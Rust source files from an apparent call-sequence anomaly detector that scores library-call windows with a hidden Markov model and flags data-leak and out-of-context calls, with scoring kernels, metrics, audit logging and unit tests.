        let trace: Vec<CallEvent> = [
            "a",
            "b",
            "c_Q7",
            "a",
            "evil_exfil",
            "c_Q7",
            "b",
            "a",
            "a",
            "b",
        ]
        .iter()
        .map(|n| event(n, "main"))
        .collect();
        let dense_alerts = dense.scan(&trace);
        let sparse_alerts = sparse.scan(&trace);
        assert_eq!(dense_alerts.len(), sparse_alerts.len());
        for (d, s) in dense_alerts.iter().zip(&sparse_alerts) {
            assert_eq!(d.flag, s.flag);
            assert_eq!(d.window, s.window);
            assert_eq!(d.detail, s.detail);
            assert!((d.log_likelihood - s.log_likelihood).abs() < 1e-9);
        }
    }

    #[test]
    fn beam_kernel_stamps_metrics_and_audit_records() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let engine = DetectionEngine::new(&profile)
            .with_registry(&registry)
            .with_audit(audit)
            .with_kernel(KernelConfig::Beam {
                sparse: SparseConfig::default(),
                beam: BeamConfig {
                    top_k: Some(2),
                    mass_epsilon: 0.0,
                },
            });
        assert_eq!(engine.kernel_label(), "beam");
        let alert = engine.classify(&[event("b", "main"), event("a", "main"), event("a", "main")]);
        assert!(alert.is_alarm());
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.kernel.beam"), Some(1));
        // 4 alphabet symbols, top-2 beam: every step prunes states, and
        // the bound gauge records the worst per-window gap.
        assert_eq!(snap.counter("beam.windows_pruned"), Some(1));
        assert!(snap.gauges["beam.gap_bound_micronats_max"] >= 0);
        let records = sink.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].kernel, "beam");
    }

    #[test]
    fn threshold_override() {
        let profile = cyclic_profile();
        let mut engine = DetectionEngine::new(&profile);
        engine.set_threshold(0.0); // everything below 0 → all flagged
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ];
        assert_ne!(engine.classify(&events).flag, Flag::Normal);
    }
}
