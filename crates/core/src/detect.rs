//! The Detection Engine (§IV-B4, §IV-D): scores n-length call sequences
//! against the profile and raises flags.
//!
//! Flags, in the paper's order (§V-C):
//!
//! 1. **OutOfContext** — a call issued by a function that never issued it
//!    during training (a new call inserted in a function);
//! 2. **DataLeak** — an anomalous sequence containing a DDG-labeled output
//!    call (`*_Q<bid>`), i.e. targeted data flowed to an output statement
//!    along an unlikely path — the alert carries the label, *connecting the
//!    activity to its source*;
//! 3. **Anomalous** — an unlikely sequence without labeled output calls;
//! 4. **Normal** — everything else.

use crate::profile::Profile;
use crate::telemetry::{audit_record_from_alert, DetectMetrics};
use adprom_hmm::{
    forward_beam, log_likelihood, log_likelihood_sparse, BeamConfig, SparseConfig,
    SparseTransitions,
};
use adprom_obs::{AuditLog, Registry};
use adprom_trace::{CallEvent, CallSink};
use serde::{Deserialize, Serialize};
use std::collections::VecDeque;
use std::fmt;
use std::sync::Arc;
use std::time::Instant;

/// Detection flags (§V-C).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Flag {
    /// Sequence consistent with the profile.
    Normal,
    /// Unlikely sequence with no labeled output call.
    Anomalous,
    /// Unlikely sequence containing a labeled output call: a potential
    /// data-leak attempt, connected to its source via the label.
    DataLeak,
    /// A call issued from a caller never seen issuing it.
    OutOfContext,
}

impl Flag {
    /// The pure flag-precedence rule (§V-C), shared by every scoring path
    /// — [`DetectionEngine::classify`], the incremental batch scanner, and
    /// anything else that already knows the per-window facts:
    ///
    /// 1. `out_of_context` wins outright (structural, likelihood-blind);
    /// 2. below-threshold windows are [`Flag::DataLeak`] when a
    ///    DDG-labeled output call is present, else [`Flag::Anomalous`];
    /// 3. everything else is [`Flag::Normal`].
    ///
    /// `ll = NaN` never compares below the threshold, so an undefined
    /// score degrades to Normal rather than a spurious alarm.
    pub fn classify(
        ll: f64,
        threshold: f64,
        has_labeled_output: bool,
        out_of_context: bool,
    ) -> Flag {
        if out_of_context {
            Flag::OutOfContext
        } else if ll < threshold {
            if has_labeled_output {
                Flag::DataLeak
            } else {
                Flag::Anomalous
            }
        } else {
            Flag::Normal
        }
    }
}

impl fmt::Display for Flag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Flag::Normal => "NORMAL",
            Flag::Anomalous => "ANOMALOUS",
            Flag::DataLeak => "DATA-LEAK",
            Flag::OutOfContext => "OUT-OF-CONTEXT",
        };
        f.write_str(s)
    }
}

/// Which scoring kernel a [`DetectionEngine`] (or
/// [`BatchDetector`](crate::parallel::BatchDetector)) runs per window.
///
/// `Sparse` with `epsilon = 0` and `Beam` off is *exact*: on smoothed
/// profiles it produces bit-identical log-likelihoods to `Dense` in
/// O(nnz + N) per event instead of O(N²) (see [`adprom_hmm::sparse`]).
/// `Beam` additionally prunes the α vector per step — scores become lower
/// bounds on the exact value, with the per-window gap bounded by the
/// `beam.gap_bound_micronats_max` gauge.
#[derive(Debug, Clone, Copy, Default)]
pub enum KernelConfig {
    /// The dense O(N²)-per-event forward pass (the default).
    #[default]
    Dense,
    /// The sparse CSR kernel — exact at `epsilon = 0` on smoothed models.
    Sparse {
        /// CSR construction parameters (fold epsilon, density cutoff).
        sparse: SparseConfig,
    },
    /// The sparse kernel plus beam pruning of α: approximate scores with a
    /// tracked, sound error bound.
    Beam {
        /// CSR construction parameters.
        sparse: SparseConfig,
        /// Pruning policy (top-k and/or mass threshold).
        beam: BeamConfig,
    },
}

impl KernelConfig {
    /// Short name for metrics and audit records: `dense`, `sparse`, or
    /// `beam`.
    pub fn label(&self) -> &'static str {
        match self {
            KernelConfig::Dense => "dense",
            KernelConfig::Sparse { .. } => "sparse",
            KernelConfig::Beam { .. } => "beam",
        }
    }
}

/// A [`KernelConfig`] resolved against a concrete profile: the CSR
/// decomposition is built once and shared (`Arc`) by every scorer using
/// it — batch workers clone the handle, not the matrix.
#[derive(Debug, Clone, Default)]
pub(crate) enum KernelState {
    /// Dense forward pass.
    #[default]
    Dense,
    /// Exact sparse scoring through a shared CSR kernel.
    Sparse(Arc<SparseTransitions>),
    /// Sparse scoring with beam pruning.
    Beam(Arc<SparseTransitions>, BeamConfig),
}

impl KernelState {
    /// Builds the state for `config`, constructing the CSR kernel from
    /// `profile`'s transition matrix when one is needed.
    pub(crate) fn build(config: KernelConfig, profile: &Profile) -> KernelState {
        match config {
            KernelConfig::Dense => KernelState::Dense,
            KernelConfig::Sparse { sparse } => {
                KernelState::Sparse(Arc::new(SparseTransitions::from_hmm(&profile.hmm, &sparse)))
            }
            KernelConfig::Beam { sparse, beam } => KernelState::Beam(
                Arc::new(SparseTransitions::from_hmm(&profile.hmm, &sparse)),
                beam,
            ),
        }
    }

    /// [`KernelState::build`] with CSR validation: the profile's model is
    /// checked (finite, row-stochastic) before building, and the built
    /// decomposition self-checks its structure. `Err` carries the reason;
    /// resilience-aware callers ([`crate::parallel::BatchDetector`])
    /// downgrade to the dense kernel instead of scoring through a corrupt
    /// CSR — and since validation failure means the sparse kernel was
    /// never built, the degraded mode *is* the dense kernel, bit-exactly.
    pub(crate) fn build_validated(
        config: KernelConfig,
        profile: &Profile,
    ) -> Result<KernelState, adprom_hmm::HmmError> {
        match config {
            KernelConfig::Dense => Ok(KernelState::Dense),
            KernelConfig::Sparse { sparse } => Ok(KernelState::Sparse(Arc::new(
                SparseTransitions::try_from_hmm(&profile.hmm, &sparse)?,
            ))),
            KernelConfig::Beam { sparse, beam } => Ok(KernelState::Beam(
                Arc::new(SparseTransitions::try_from_hmm(&profile.hmm, &sparse)?),
                beam,
            )),
        }
    }

    /// Short name for metrics and audit records.
    pub(crate) fn label(&self) -> &'static str {
        match self {
            KernelState::Dense => "dense",
            KernelState::Sparse(_) => "sparse",
            KernelState::Beam(..) => "beam",
        }
    }
}

/// An alert raised for one window.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    /// The flag.
    pub flag: Flag,
    /// `log P(cs | λ)` of the window.
    pub log_likelihood: f64,
    /// Threshold in force when the window was scored.
    pub threshold: f64,
    /// The call names of the window.
    pub window: Vec<String>,
    /// Human-readable detail: the leak label and source connection, or the
    /// out-of-context (call, caller) pair.
    pub detail: String,
}

impl Alert {
    /// True for any non-normal flag.
    pub fn is_alarm(&self) -> bool {
        self.flag != Flag::Normal
    }
}

/// Scores windows against a profile.
#[derive(Debug, Clone)]
pub struct DetectionEngine<'p> {
    profile: &'p Profile,
    /// Active threshold (defaults to the profile's; an admin can override
    /// via [`DetectionEngine::set_threshold`], e.g. from an adaptive
    /// controller).
    threshold: f64,
    /// Metric handles (no-ops unless [`DetectionEngine::with_registry`] /
    /// [`DetectionEngine::with_metrics`] installed live ones).
    metrics: DetectMetrics,
    /// Audit log for non-Normal detections, if any.
    audit: Option<Arc<AuditLog>>,
    /// Session id stamped on audit records (empty when unknown).
    session: String,
    /// Scoring kernel resolved against the profile (dense by default).
    kernel: KernelState,
}

impl<'p> DetectionEngine<'p> {
    /// Creates an engine over a profile. Instrumentation starts disabled.
    pub fn new(profile: &'p Profile) -> DetectionEngine<'p> {
        DetectionEngine {
            profile,
            threshold: profile.threshold,
            metrics: DetectMetrics::disabled(),
            audit: None,
            session: String::new(),
            kernel: KernelState::Dense,
        }
    }

    /// Selects the scoring kernel, building the CSR decomposition from the
    /// profile when `config` needs one. With [`KernelConfig::Sparse`] at
    /// `epsilon = 0` the engine's scores (and therefore its alerts) are
    /// bit-identical to the dense default on smoothed profiles.
    pub fn with_kernel(self, config: KernelConfig) -> DetectionEngine<'p> {
        let state = KernelState::build(config, self.profile);
        self.with_kernel_state(state)
    }

    /// Installs an already-resolved kernel — the path
    /// [`BatchDetector`](crate::parallel::BatchDetector) uses to share one
    /// CSR matrix across every worker instead of rebuilding it per trace.
    pub(crate) fn with_kernel_state(mut self, state: KernelState) -> DetectionEngine<'p> {
        self.kernel = state;
        self
    }

    /// Registers metric handles against `registry` (window counts, flag
    /// counters, score latency).
    pub fn with_registry(self, registry: &Registry) -> DetectionEngine<'p> {
        self.with_metrics(DetectMetrics::from_registry(registry))
    }

    /// Installs pre-fetched metric handles — the zero-registration-lock
    /// path batch workers use.
    pub fn with_metrics(mut self, metrics: DetectMetrics) -> DetectionEngine<'p> {
        self.metrics = metrics;
        self
    }

    /// Routes every non-Normal detection to `audit` as a JSONL-ready
    /// [`adprom_obs::AuditRecord`].
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> DetectionEngine<'p> {
        self.audit = Some(audit);
        self
    }

    /// Sets the session id stamped on audit records.
    pub fn set_session(&mut self, session: &str) {
        self.session = session.to_string();
    }

    /// The profile in use.
    pub fn profile(&self) -> &Profile {
        self.profile
    }

    /// Overrides the detection threshold.
    pub fn set_threshold(&mut self, threshold: f64) {
        self.threshold = threshold;
    }

    /// The active threshold.
    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// Short name of the active scoring kernel (`dense`, `sparse`, or
    /// `beam`) — stamped on audit records.
    pub fn kernel_label(&self) -> &'static str {
        self.kernel.label()
    }

    /// `log P(window | λ)` for a window of call names, computed by the
    /// configured kernel. Beam-pruned scores are lower bounds; the worst
    /// per-window gap feeds the `beam.gap_bound_micronats_max` gauge.
    pub fn score(&self, names: &[String]) -> f64 {
        let encoded = self.profile.alphabet.encode_seq(names);
        self.score_encoded(&encoded)
    }

    /// [`DetectionEngine::score`] for an already-encoded window — the trace
    /// scanner encodes each trace once and scores slices of it, so the
    /// per-window cost is only the forward recursion itself.
    fn score_encoded(&self, encoded: &[usize]) -> f64 {
        match &self.kernel {
            KernelState::Dense => log_likelihood(&self.profile.hmm, encoded),
            KernelState::Sparse(sp) => log_likelihood_sparse(&self.profile.hmm, sp, encoded),
            KernelState::Beam(sp, beam) => {
                let run = forward_beam(&self.profile.hmm, sp, encoded, beam);
                if run.pruned_states > 0 {
                    self.metrics.beam_windows_pruned.inc();
                }
                // The gauge is integral micro-nats; an infinite bound
                // (pruning starved the chain) saturates it.
                let micronats = if run.gap_bound.is_finite() {
                    (run.gap_bound * 1e6).ceil() as i64
                } else {
                    i64::MAX
                };
                self.metrics.beam_gap_bound_max.record_max(micronats);
                run.pass.log_likelihood
            }
        }
    }

    /// Classifies one window of events.
    pub fn classify(&self, events: &[CallEvent]) -> Alert {
        let names: Vec<String> = events.iter().map(|e| e.name.clone()).collect();
        // Only read the clock when a live histogram will receive the
        // sample — disabled instrumentation must not cost two syscalls
        // per window.
        let timer = self.metrics.score_ns.is_enabled().then(Instant::now);
        let ll = self.score(&names);
        if let Some(start) = timer {
            self.metrics
                .score_ns
                .record(u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
        self.classify_scored(events, names, ll)
    }

    /// Classifies a window whose log-likelihood was computed externally —
    /// the hook the incremental batch pipeline uses to reuse the flag
    /// logic with [`adprom_hmm::SlidingForward`] scores instead of a full
    /// per-window forward pass.
    pub fn classify_with_ll(&self, events: &[CallEvent], log_likelihood: f64) -> Alert {
        let names: Vec<String> = events.iter().map(|e| e.name.clone()).collect();
        self.classify_scored(events, names, log_likelihood)
    }

    fn classify_scored(&self, events: &[CallEvent], names: Vec<String>, ll: f64) -> Alert {
        // Per-window facts first, then the shared precedence rule
        // ([`Flag::classify`]) decides the flag.
        let ooc = events
            .iter()
            .find(|e| self.profile.is_out_of_context(&e.name, &e.caller));
        let leak = names.iter().find(|n| n.contains("_Q"));
        let flag = Flag::classify(ll, self.threshold, leak.is_some(), ooc.is_some());
        let detail = alert_detail(flag, ooc, leak);
        self.observe(Alert {
            flag,
            log_likelihood: ll,
            threshold: self.threshold,
            window: names,
            detail,
        })
    }

    /// Feeds a finished alert through the instrumentation — the window
    /// counter, its flag-kind counter, and (for non-Normal alerts) the
    /// audit log — and returns it unchanged. Every classify path ends
    /// here; scoring paths that build alerts themselves (the incremental
    /// batch scanner) call it directly.
    pub fn observe(&self, alert: Alert) -> Alert {
        self.metrics.windows_scored.inc();
        self.metrics.flag_counter(alert.flag).inc();
        if alert.is_alarm() {
            // Attribute every flagged window to the kernel that scored it
            // — beam scores are approximate, so forensics must be able to
            // tell which path raised an alarm.
            match &self.kernel {
                KernelState::Dense => self.metrics.kernel_dense.inc(),
                KernelState::Sparse(_) => self.metrics.kernel_sparse.inc(),
                KernelState::Beam(..) => self.metrics.kernel_beam.inc(),
            }
            if let Some(audit) = &self.audit {
                audit.record(audit_record_from_alert(
                    &alert,
                    &self.session,
                    self.kernel.label(),
                ));
            }
        }
        alert
    }

    /// Scans a whole trace with sliding windows; returns one alert per
    /// window.
    ///
    /// Per-trace facts are computed once up front — the symbol encoding,
    /// out-of-context verdicts, and labeled-output (`_Q`) markers — so the
    /// per-window work is one forward recursion plus the flag decision.
    /// Alerts are identical to classifying each window independently.
    pub fn scan(&self, events: &[CallEvent]) -> Vec<Alert> {
        let n = self.profile.window;
        if events.is_empty() {
            return Vec::new();
        }
        if events.len() <= n {
            return vec![self.classify(events)];
        }
        let names: Vec<String> = events.iter().map(|e| e.name.clone()).collect();
        let encoded = self.profile.alphabet.encode_seq(&names);
        let ooc: Vec<bool> = events
            .iter()
            .map(|e| self.profile.is_out_of_context(&e.name, &e.caller))
            .collect();
        let labeled: Vec<bool> = names.iter().map(|name| name.contains("_Q")).collect();
        let mut alerts = Vec::with_capacity(events.len() - n + 1);
        for start in 0..=events.len() - n {
            let end = start + n;
            let timer = self.metrics.score_ns.is_enabled().then(Instant::now);
            let ll = self.score_encoded(&encoded[start..end]);
            if let Some(t0) = timer {
                self.metrics
                    .score_ns
                    .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
            }
            let ooc_event = (start..end).find(|&t| ooc[t]).map(|t| &events[t]);
            let leak_name = (start..end).find(|&t| labeled[t]).map(|t| &names[t]);
            let flag = Flag::classify(ll, self.threshold, leak_name.is_some(), ooc_event.is_some());
            let detail = alert_detail(flag, ooc_event, leak_name);
            alerts.push(self.observe(Alert {
                flag,
                log_likelihood: ll,
                threshold: self.threshold,
                window: names[start..end].to_vec(),
                detail,
            }));
        }
        alerts
    }

    /// Highest-severity flag over a whole trace (severity order:
    /// OutOfContext > DataLeak > Anomalous > Normal).
    pub fn verdict(&self, events: &[CallEvent]) -> Flag {
        self.scan(events)
            .into_iter()
            .map(|a| a.flag)
            .max()
            .unwrap_or(Flag::Normal)
    }
}

/// Human-readable explanation for an alert, from the window facts that
/// decided its flag. Shared by the single-window and whole-trace paths so
/// their wording is identical.
fn alert_detail(flag: Flag, ooc: Option<&CallEvent>, leak: Option<&String>) -> String {
    match flag {
        Flag::OutOfContext => {
            let e = ooc.expect("flag requires an out-of-context event");
            format!(
                "call `{}` issued by `{}`, which never issued it in training",
                e.name, e.caller
            )
        }
        Flag::DataLeak => {
            let leak = leak.expect("flag requires a labeled output");
            format!(
                "anomalous sequence contains labeled output `{leak}` \
                 (block {}): targeted data from the DB reached an output statement",
                leak.rsplit("_Q").next().unwrap_or("?")
            )
        }
        Flag::Anomalous => "sequence probability below threshold".to_string(),
        Flag::Normal => String::new(),
    }
}

/// A streaming detector: plug it in as the interpreter's [`CallSink`] and
/// it classifies each n-window as calls arrive — the §IV-D online workflow
/// where "the Calls Collector sends n-length call sequences (the last call
/// and the n−1 past calls) to the Detection Engine".
#[derive(Debug)]
pub struct OnlineDetector {
    profile: Profile,
    buffer: VecDeque<CallEvent>,
    alerts: Vec<Alert>,
    /// Only windows at least this long are scored (ramp-up).
    min_window: usize,
}

impl OnlineDetector {
    /// Creates a streaming detector owning a profile.
    pub fn new(profile: Profile) -> OnlineDetector {
        let min_window = profile.window;
        OnlineDetector {
            profile,
            buffer: VecDeque::new(),
            alerts: Vec::new(),
            min_window,
        }
    }

    /// Alerts raised so far (one per full window seen).
    pub fn alerts(&self) -> &[Alert] {
        &self.alerts
    }

    /// Alarms only (non-normal alerts).
    pub fn alarms(&self) -> Vec<&Alert> {
        self.alerts.iter().filter(|a| a.is_alarm()).collect()
    }
}

impl CallSink for OnlineDetector {
    fn on_call(&mut self, event: CallEvent) {
        self.buffer.push_back(event);
        if self.buffer.len() > self.profile.window {
            self.buffer.pop_front();
        }
        if self.buffer.len() >= self.min_window {
            let window: Vec<CallEvent> = self.buffer.iter().cloned().collect();
            let engine = DetectionEngine::new(&self.profile);
            self.alerts.push(engine.classify(&window));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.to_string(),
            call: LibCall::Printf,
            caller: caller.to_string(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    /// A profile whose model strongly expects the cycle a→b→c.
    fn cyclic_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "cyclic".into(),
            alphabet,
            hmm,
            window: 3,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    #[test]
    fn normal_window_passes() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::Normal, "{alert:?}");
    }

    #[test]
    fn unknown_call_window_is_flagged_as_leak_when_labeled_output_present() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("evil_exfil", "main"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::DataLeak);
        assert!(alert.detail.contains("c_Q7"));
    }

    #[test]
    fn unlikely_order_without_label_is_anomalous() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![event("b", "main"), event("a", "main"), event("a", "main")];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::Anomalous, "ll={}", alert.log_likelihood);
    }

    #[test]
    fn out_of_context_caller_is_flagged() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "attacker_function"),
            event("c_Q7", "main"),
        ];
        let alert = engine.classify(&events);
        assert_eq!(alert.flag, Flag::OutOfContext);
        assert!(alert.detail.contains("attacker_function"));
    }

    #[test]
    fn verdict_takes_max_severity() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
            event("a", "main"),
            event("b", "attacker_function"),
            event("c_Q7", "main"),
        ];
        assert_eq!(engine.verdict(&events), Flag::OutOfContext);
    }

    #[test]
    fn online_detector_streams_windows() {
        let profile = cyclic_profile();
        let mut online = OnlineDetector::new(profile);
        for name in ["a", "b", "c_Q7", "a", "b", "c_Q7"] {
            online.on_call(event(name, "main"));
        }
        // Windows start once 3 events arrived: 4 windows total.
        assert_eq!(online.alerts().len(), 4);
        assert!(online.alarms().is_empty());
    }

    #[test]
    fn classify_with_ll_matches_classify_given_same_score() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        for window in [
            vec![
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
            ],
            vec![event("b", "main"), event("a", "main"), event("a", "main")],
            vec![
                event("a", "main"),
                event("b", "attacker_function"),
                event("c_Q7", "main"),
            ],
        ] {
            let names: Vec<String> = window.iter().map(|e| e.name.clone()).collect();
            let ll = engine.score(&names);
            assert_eq!(
                engine.classify(&window),
                engine.classify_with_ll(&window, ll)
            );
        }
    }

    #[test]
    fn flag_classify_covers_every_fact_combination() {
        let th = -5.0;
        // out_of_context wins outright, whatever the score or labels say.
        for ll in [-100.0, th, 0.0, f64::NEG_INFINITY, f64::NAN] {
            for labeled in [false, true] {
                assert_eq!(
                    Flag::classify(ll, th, labeled, true),
                    Flag::OutOfContext,
                    "ll={ll} labeled={labeled}"
                );
            }
        }
        // Below threshold: a labeled output upgrades Anomalous → DataLeak.
        for ll in [-100.0, -5.000001, f64::NEG_INFINITY] {
            assert_eq!(
                Flag::classify(ll, th, true, false),
                Flag::DataLeak,
                "ll={ll}"
            );
            assert_eq!(
                Flag::classify(ll, th, false, false),
                Flag::Anomalous,
                "ll={ll}"
            );
        }
        // At or above threshold: Normal, labels notwithstanding.
        for ll in [th, -1.0, 0.0, f64::INFINITY] {
            for labeled in [false, true] {
                assert_eq!(
                    Flag::classify(ll, th, labeled, false),
                    Flag::Normal,
                    "ll={ll} labeled={labeled}"
                );
            }
        }
        // An undefined score never alarms.
        assert_eq!(Flag::classify(f64::NAN, th, true, false), Flag::Normal);
        assert_eq!(Flag::classify(f64::NAN, th, false, false), Flag::Normal);
    }

    #[test]
    fn flag_classify_agrees_with_classify_scored() {
        let profile = cyclic_profile();
        let engine = DetectionEngine::new(&profile);
        for window in [
            vec![
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
            ],
            vec![event("b", "main"), event("a", "main"), event("a", "main")],
            vec![
                event("a", "main"),
                event("evil_exfil", "main"),
                event("c_Q7", "main"),
            ],
            vec![
                event("a", "main"),
                event("b", "attacker_function"),
                event("c_Q7", "main"),
            ],
        ] {
            let alert = engine.classify(&window);
            let has_label = window.iter().any(|e| e.name.contains("_Q"));
            let ooc = window
                .iter()
                .any(|e| profile.is_out_of_context(&e.name, &e.caller));
            assert_eq!(
                alert.flag,
                Flag::classify(alert.log_likelihood, engine.threshold(), has_label, ooc)
            );
        }
    }

    #[test]
    fn engine_metrics_and_audit_capture_detections() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let mut engine = DetectionEngine::new(&profile)
            .with_registry(&registry)
            .with_audit(audit);
        engine.set_session("conn-1");
        engine.classify(&[
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ]);
        engine.classify(&[
            event("a", "main"),
            event("evil_exfil", "main"),
            event("c_Q7", "main"),
        ]);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.windows_scored"), Some(2));
        assert_eq!(snap.counter("detect.flags.normal"), Some(1));
        assert_eq!(snap.counter("detect.flags.data_leak"), Some(1));
        assert_eq!(snap.histograms["detect.score_ns"].count, 2);
        // Only the non-Normal detection reached the audit trail, with the
        // session id and leak label attached.
        let records = sink.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].session, "conn-1");
        assert_eq!(records[0].flag, "DATA-LEAK");
        assert_eq!(records[0].kernel, "dense");
        assert_eq!(records[0].label.as_deref(), Some("c_Q7"));
        assert_eq!(records[0].bid.as_deref(), Some("7"));
        // The flagged window is attributed to the kernel that scored it.
        assert_eq!(snap.counter("detect.kernel.dense"), Some(1));
        assert_eq!(snap.counter("detect.kernel.sparse"), Some(0));
    }

    #[test]
    fn sparse_kernel_produces_equivalent_alerts() {
        // ε = 0, no beam: the sparse path computes the same quantity as
        // dense (summation order differs, so scores agree to 1e-9 rather
        // than bitwise) — flags, windows and details must be identical.
        let profile = cyclic_profile();
        let dense = DetectionEngine::new(&profile);
        let sparse = DetectionEngine::new(&profile).with_kernel(KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        });
        assert_eq!(sparse.kernel_label(), "sparse");
        let trace: Vec<CallEvent> = [
            "a",
            "b",
            "c_Q7",
            "a",
            "evil_exfil",
            "c_Q7",
            "b",
            "a",
            "a",
            "b",
        ]
        .iter()
        .map(|n| event(n, "main"))
        .collect();
        let dense_alerts = dense.scan(&trace);
        let sparse_alerts = sparse.scan(&trace);
        assert_eq!(dense_alerts.len(), sparse_alerts.len());
        for (d, s) in dense_alerts.iter().zip(&sparse_alerts) {
            assert_eq!(d.flag, s.flag);
            assert_eq!(d.window, s.window);
            assert_eq!(d.detail, s.detail);
            assert!((d.log_likelihood - s.log_likelihood).abs() < 1e-9);
        }
    }

    #[test]
    fn beam_kernel_stamps_metrics_and_audit_records() {
        use adprom_obs::{AuditLog, AuditSink, MemoryAuditSink};
        let profile = cyclic_profile();
        let registry = Registry::new();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>));
        let engine = DetectionEngine::new(&profile)
            .with_registry(&registry)
            .with_audit(audit)
            .with_kernel(KernelConfig::Beam {
                sparse: SparseConfig::default(),
                beam: BeamConfig {
                    top_k: Some(2),
                    mass_epsilon: 0.0,
                },
            });
        assert_eq!(engine.kernel_label(), "beam");
        let alert = engine.classify(&[event("b", "main"), event("a", "main"), event("a", "main")]);
        assert!(alert.is_alarm());
        let snap = registry.snapshot();
        assert_eq!(snap.counter("detect.kernel.beam"), Some(1));
        // 4 alphabet symbols, top-2 beam: every step prunes states, and
        // the bound gauge records the worst per-window gap.
        assert_eq!(snap.counter("beam.windows_pruned"), Some(1));
        assert!(snap.gauges["beam.gap_bound_micronats_max"] >= 0);
        let records = sink.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].kernel, "beam");
    }

    #[test]
    fn threshold_override() {
        let profile = cyclic_profile();
        let mut engine = DetectionEngine::new(&profile);
        engine.set_threshold(0.0); // everything below 0 → all flagged
        let events = vec![
            event("a", "main"),
            event("b", "main"),
            event("c_Q7", "main"),
        ];
        assert_ne!(engine.classify(&events).flag, Flag::Normal);
    }
}
