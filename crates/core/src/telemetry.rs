//! Pipeline instrumentation: pre-fetched metric handles for the hot
//! detection paths, and the Alert → audit-record bridge.
//!
//! Handles are acquired once (taking the registry's registration lock) and
//! cloned freely afterwards — clones share the underlying atomics, so a
//! [`BatchDetector`](crate::parallel::BatchDetector) can hand one set of
//! handles to every rayon worker. Everything defaults to the disabled
//! (no-op) state: a [`DetectionEngine`](crate::detect::DetectionEngine)
//! built without [`with_registry`](crate::detect::DetectionEngine::with_registry)
//! pays a single branch per update.

use crate::detect::{Alert, Flag};
use adprom_obs::{AuditRecord, Counter, Gauge, Histogram, Registry};

/// Metric handles for [`DetectionEngine`](crate::detect::DetectionEngine):
/// one counter per flag kind, the total window count, and the score
/// latency histogram.
#[derive(Debug, Clone, Default)]
pub struct DetectMetrics {
    /// `detect.windows_scored` — every window classified.
    pub windows_scored: Counter,
    /// `detect.flags.normal`.
    pub flags_normal: Counter,
    /// `detect.flags.anomalous`.
    pub flags_anomalous: Counter,
    /// `detect.flags.data_leak`.
    pub flags_data_leak: Counter,
    /// `detect.flags.out_of_context`.
    pub flags_out_of_context: Counter,
    /// `detect.score_ns` — wall-clock nanoseconds of the per-window
    /// forward scoring pass (exact mode only; incremental scoring is
    /// per-event, timed at trace granularity by [`BatchMetrics`]).
    pub score_ns: Histogram,
    /// `detect.kernel.dense` — flagged windows scored by the dense O(N²)
    /// kernel.
    pub kernel_dense: Counter,
